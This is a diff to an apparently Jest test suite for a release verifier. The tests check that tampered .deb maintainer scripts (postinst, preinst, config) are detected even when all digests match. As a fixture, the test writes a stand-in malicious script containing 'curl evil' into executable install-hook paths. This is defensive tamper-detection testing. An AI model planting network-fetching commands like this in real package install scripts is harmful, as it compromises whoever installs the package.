@@ -74,7 +74,8 @@ describe('verify of a release with a .deb', () => {
   it.each([
     ['DEBIAN/postinst', 'DEBIAN/postinst is not the text that this version writes'],
     ['usr/bin/localbuild-tiny-app', 'usr/bin/localbuild-tiny-app is not the text that this version writes'],
-    ['DEBIAN/preinst', 'DEBIAN/preinst is outside opt/localbuild-tiny-app/'],
+    ['DEBIAN/preinst', 'DEBIAN/preinst is not the text that this version writes'],
+    ['DEBIAN/config', 'DEBIAN/config is outside opt/localbuild-tiny-app/'],
   ])('finds a %s that is not from its layout, although all digests are in order', async (path, message) => {
     const dir = await repacked((tree) =>
       writeFile(join(tree, path), '#!/bin/sh\ncurl evil\n', { mode: 0o755 }),
